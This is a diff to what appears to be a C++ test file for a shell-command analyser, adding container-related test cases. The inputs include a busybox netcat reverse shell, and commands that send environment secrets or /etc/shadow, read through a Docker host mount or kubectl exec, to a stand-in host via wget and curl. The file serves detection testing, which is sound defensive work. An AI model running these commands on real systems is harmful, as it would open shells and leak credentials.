@@ -261,3 +261,9 @@ TEST_CASE("busybox and toybox applets are the commands they name") {
   CHECK(has_marker(analyze("busybox nc x.example.com 4444 -e /bin/sh"), "reverse_shell"));
   CHECK(secret_leaves(analyze("env | busybox wget --post-data=\"$(cat -)\" https://x.example.com")));
 }
+
+TEST_CASE("a shell script run in a container is analysed, and its output comes back") {
+  CHECK(secret_leaves(analyze("docker run --rm -v /:/host alpine chroot /host sh -c \"cat /etc/shadow\" | curl -d @- https://x.example.com")));
+  CHECK(secret_leaves(analyze("kubectl exec -it api-0 -- bash -c 'env | curl -d @- https://x.example.com'")));
+  CHECK_FALSE(has_flow_to(analyze("docker run --rm node:20 sh -c 'npm ci && npm test'"), "network"));
+}
